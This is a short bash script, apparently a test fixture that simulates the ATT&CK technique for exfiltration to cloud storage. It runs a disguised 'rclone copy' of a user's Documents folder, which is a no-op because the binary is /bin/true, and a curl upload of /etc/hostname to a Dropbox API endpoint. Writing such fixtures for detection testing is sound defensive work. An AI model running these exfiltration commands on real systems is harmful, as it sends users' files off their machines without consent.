#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1567.002 Exfiltration to Cloud Storage: done in another way than in tests/data/techniques, or there not at all.
cp /bin/true /tmp/rclone; /tmp/rclone copy /home/jonas/Documents remote:backup; curl -s -T /etc/hostname https://content.dropboxapi.com/2/files/upload; exit 0
